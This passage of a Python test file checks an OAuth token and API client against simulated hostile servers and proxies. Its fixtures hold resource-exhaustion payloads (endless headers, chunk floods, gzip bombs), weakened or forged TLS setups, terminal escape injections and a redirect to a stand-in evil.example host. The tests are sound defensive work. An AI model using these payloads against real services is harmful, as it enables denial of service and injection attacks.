    assert server.asked[1:] == []


# -- time and memory


FLOODS: dict[str, tuple[Reply, str]] = {
    "100 for ever": (endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n"), "OutcomeUnknown"),
    "103 for ever": (endless(b"", b"HTTP/1.1 103 E\r\nLink: " + b"x" * 4000 + b"\r\n\r\n"), "OutcomeUnknown"),
    "headers": (endless(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"), "OutcomeUnknown"),
    "large headers": (endless(b"HTTP/1.1 200 OK\r\n", b"X: " + b"y" * 60_000 + b"\r\n"), "OutcomeUnknown"),
    "one header": (endless(b"HTTP/1.1 200 OK\r\nX: ", b"y" * 60_000), "OutcomeUnknown"),
    "a folded header": (endless(b"HTTP/1.1 200 OK\r\nX: y\r\n", b" y\r\n"), "OutcomeUnknown"),
    "a reason": (endless(b"HTTP/1.1 200 ", b"y" * 60_000), "OutcomeUnknown"),
    "empty lines": (endless(b"", b"\r\n"), "OutcomeUnknown"),
    "chunks of one byte": (endless(chunked(end=b""), b"1\r\nx\r\n"), "OutcomeUnknown"),
    "an extension": (endless(chunked(end=b"1;"), b"x" * 60_000), "OutcomeUnknown"),
    "a size": (endless(chunked(end=b""), b"0" * 60_000), "OutcomeUnknown"),
    "trailers": (endless(chunked(end=b"0\r\n"), b"X: y\r\n"), "OutcomeUnknown"),
    "trailers behind tokens": (endless(chunked(TOKENS, end=b"0\r\n"), b"X: y\r\n"), "True"),
    "a body": (endless(headed(b"HTTP/1.1 200 OK", b""), b" " * 60_000), "OutcomeUnknown"),
    "spaces behind tokens": (endless(headed(b"HTTP/1.1 200 OK"), b" " * 60_000), "True"),
    "more behind tokens": (endless(answer(TOKENS), b"\x1b" * 60_000), "True"),
    "answers": (endless(b"", answer(TOKENS)), "True"),
    "a gzip bomb": (answer(gzip.compress(b"x" * 50_000_000)), "OutcomeUnknown"),
}
API_FLOODS: dict[str, tuple[Reply, str, int]] = {
    "a no": (answer(b"ab " * 10_000_000, "404 No"), "api", 110),
    "headers": (endless(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"), "get", 32),
    "100 for ever": (endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n"), "get", 32),
    "objects": (answer(b"[" + b"{}," * 10_000_000 + b"{}]"), "company", 32),
    "objects in gzip": (
        answer(gzip.compress(b"[" + b"{}," * 20_000_000 + b"{}]", 1), "200 OK", "Content-Encoding: gzip"), "company", 32
    ),
    "a name": (answer(b'[{"id": 1, "name": "' + b"x" * 50_000_000), "company", 32),
    "bytes": (endless(headed(b"HTTP/1.1 200 OK", b""), b"\x1b" * 60_000), "get", 256),
    "a gzip bomb": (answer(gzip.compress(b"\0" * 300_000_000, 1), "200 OK", "Content-Encoding: gzip"), "get", 256),
}  # fmt: skip


def test_floods(tmp_path: Path) -> None:
    """What has no end is cut, long before the deadline and within 32 MiB, or four times what a body may be."""
    with hostile() as plain:
        stored_account(tmp_path / "plain", plain.base)
        plain.token, plain.api = answer(TOKENS), answer(b'[{"id": 1}]')
        order = {"url": f"{plain.base}token", "accounts": str(tmp_path / "plain/accounts")}
        least = max(one["most"] for one in costs([{**order, "what": "token"}, {**order, "what": "company"}]))
    servers: list[HostileServer] = []
    orders: list[dict[str, Any]] = []
    expected = []
    with ExitStack() as stack:
        for name, (reply, outcome) in FLOODS.items():
            servers.append(stack.enter_context(hostile()))
            servers[-1].token = reply
            orders.append({"what": "token", "url": f"{servers[-1].base}token"})
            expected.append((name, outcome, 32))
        for number, (name, (reply, what, most)) in enumerate(API_FLOODS.items()):
            servers.append(stack.enter_context(hostile()))
            servers[-1].api = reply
            stored_account(tmp_path / str(number), servers[-1].base, age=0.0)
            accounts = str(tmp_path / str(number) / "accounts")
            orders.append({"what": what, "url": f"{servers[-1].base}x", "accounts": accounts, "timeout": 0.5})
            expected.append((name, "1" if what == "api" else "ResourceError", most))
        for name in ("bytes soon behind the head", "a head without end"):
            servers.append(stack.enter_context(hostile()))
            servers[-1].api = PROXIES[name]
            orders.insert(0, {"what": "token", "url": "https://server.example/token", "proxy": servers[-1].base})
            expected.insert(0, (f"a proxy's {name}", "TokenEndpointUnreachable", 7))
        for (name, outcome, most), cost in zip(expected, costs(orders), strict=True):
            assert cost["outcome"] == outcome, (name, cost)
            assert cost["most"] < least + most, (name, cost, least)
            assert cost["seconds"] < 10, (name, cost)


DRIPS: dict[str, Reply] = {
    "a head": dripping(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"),
    "a status line": dripping(b"HTTP/1.1 200 ", b"y"),
    "100": dripping(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "chunks": dripping(chunked(end=b""), b"1\r\n \r\n"),
    "a body": dripping(answer(b"", length=100_000), b" "),
    "nothing": dripping(b"", b"", 1),
    "tokens, and more": dripping(answer(TOKENS, length=100_000), b" "),
    "tokens in a chunk, and trailers": dripping(chunked(TOKENS, end=b"0\r\n"), b"X: y\r\n"),
    "tokens that do not end": dripping(answer(TOKENS[:-1], length=100_000), b" "),
}


async def test_drips() -> None:
    """A byte now and then holds nobody longer than the deadline, and tokens that had come by then are used."""

    async def one(name: str, reply: Reply) -> None:
        begun = time.monotonic()
        async with answering(reply) as server:
            async with TokenEndpoint.open(f"{server.base}token", total_timeout=0.4) as endpoint:
                request = TokenRequest(f"{server.base}token", {}, Secret("a=b"))
                if name.startswith("tokens"):
                    found = parse_token_response(await endpoint.send(request))
                    assert found.refresh_token == Secret(REFRESH), name
                else:
                    with pytest.raises(OutcomeUnknown):
                        parse_token_response(await endpoint.send(request))
            with pytest.raises(ResourceError, match="it takes too long"):
                await get(registration_at(server.base), f"{server.base}api/x", Secret(ACCESS), timeout=0.4)
        assert time.monotonic() - begun < 8, name

    await asyncio.gather(*(one(name, reply) for name, reply in DRIPS.items()))


# -- before there is a connection: TLS and proxies


def _tls(folder: Path, kind: str) -> tuple[str | None, ssl.SSLContext, str]:
    """Return the CA file to trust, a server's context, and the host to ask for."""
    then = datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=1000 if kind == "expired" else 0)
    folder.mkdir(0o700)
    pem, _ = own_leaf(folder, then)
    context = server_context(pem, pem)
    if kind in ("TLS 1.1", "TLS 1.0"):
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED
        context.maximum_version = ssl.TLSVersion.TLSv1_1 if kind == "TLS 1.1" else ssl.TLSVersion.TLSv1
    return None if kind == "self-signed" else str(pem), context, "127.0.0.2" if kind == "another name" else "127.0.0.1"


@pytest.mark.filterwarnings("ignore:ssl.TLSVersion.*is deprecated:DeprecationWarning")
@pytest.mark.parametrize("kind", ["self-signed", "expired", "another name", "TLS 1.1", "TLS 1.0", "good"])
def test_who_is_not_trusted_hears_nothing(here: Here, tmp_path: Path, kind: str) -> None:
    """A certificate or a TLS that will not do: 9, nothing sent, neither a refresh token nor an access token."""
    ca_file, context, host = _tls(tmp_path / "ca", kind)
    with hostile(context, host) as server:
        server.token, server.api = answer(TOKENS), answer(b"{}")
        base = server.base.replace("http://", "https://")
        here.server = server
        stored_account(here.home, base, ca_file=ca_file)
        statuses = [here.run("refresh", "--force")[0]]
        stored_account(here.home, base, ca_file=ca_file, age=0.0)
        statuses.append(here.run("api", "company")[0])
        if kind == "good":
            assert [ended.status for ended in statuses] == [0, 0], statuses
            assert len(server.asked) == 2
        else:
            assert [ended.status for ended in statuses] == [9, 1], statuses
            assert server.asked == []
        for ended in statuses:
            harmless(ended, kind)


PROXIES: dict[str, Reply] = {
    "nothing": b"",
    "not HTTP": b"\x1b[2J\r\n\r\n",
    "a status in the reason": b"HTTP/1.1 407 200\r\n\r\n",
    "a no that holds on": dripping(b"HTTP/1.1 407 200 OK\r\n\r\n", b"", 1),
    "a 100 first": b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "a page behind it": b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\n\x1b[2J\x1b[2J",
    "tokens": answer(TOKENS),
    "tokens in place of TLS": b"HTTP/1.1 200 OK\r\n\r\n",
    "an answer in a redirect": answer(TOKENS, "302 Found", "Location: https://evil.example/"),
    "a login page": answer(b"<html>\x1b[2J", "407 \x1b[2J", "Proxy-Authenticate: \x1b[2J"),
    "a reset": reset(b"HTTP/1.1 200 OK\r\n"),
    "a head without end": endless(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"),
    "a line without end": endless(b"HTTP/1.1 200 ", b"y" * 60_000),
    "bytes behind the head": endless(b"HTTP/1.1 200 OK\r\n\r\n", b"y" * 60_000),
    "bytes soon behind the head": endless(b"HTTP/1.1 200 OK\r\n\r\n", b"y" * 60_000, 0.002),
    "a drip": dripping(b"HTTP/1.1 200 OK\r\n", b"X"),
    "a drip behind the head": dripping(b"HTTP/1.1 200 OK\r\n\r\n", b"\x16"),
    "silence": dripping(b"", b"", 1),
}
REFUSALS = (
    "nothing",
    "a no that holds on",
    "not HTTP",
    "a status in the reason",
    "a 100 first",
    "an answer in a redirect",
    "a login page",
)


@pytest.mark.parametrize("kind", list(PROXIES))
async def test_proxies(kind: str) -> None:
    """A proxy that answers CONNECT with anything but a tunnel: nothing of the request leaves, within the deadline."""
    async with answering(b"") as proxy:
        proxy.api = PROXIES[kind]
        begun = time.monotonic()
        async with TokenEndpoint.open(
            "https://server.example/token", proxy=proxy.base, connect_timeout=0.5, total_timeout=20
        ) as endpoint:
            with pytest.raises(TokenEndpointUnreachable) as caught:
                await endpoint.send(TokenRequest("https://server.example/token", {}, Secret("a=s3kr1t-")))
        said = f"{caught.value}{caught.value.hint}"
        assert all(" " <= letter <= "~" for letter in said), said
        if kind in REFUSALS:
            assert "the proxy refused" in said
        assert time.monotonic() - begun < 8
        assert [one.split(b" ")[0] for one in proxy.asked] == [b"CONNECT"]
        assert b"s3kr1t" not in b"".join(proxy.asked)
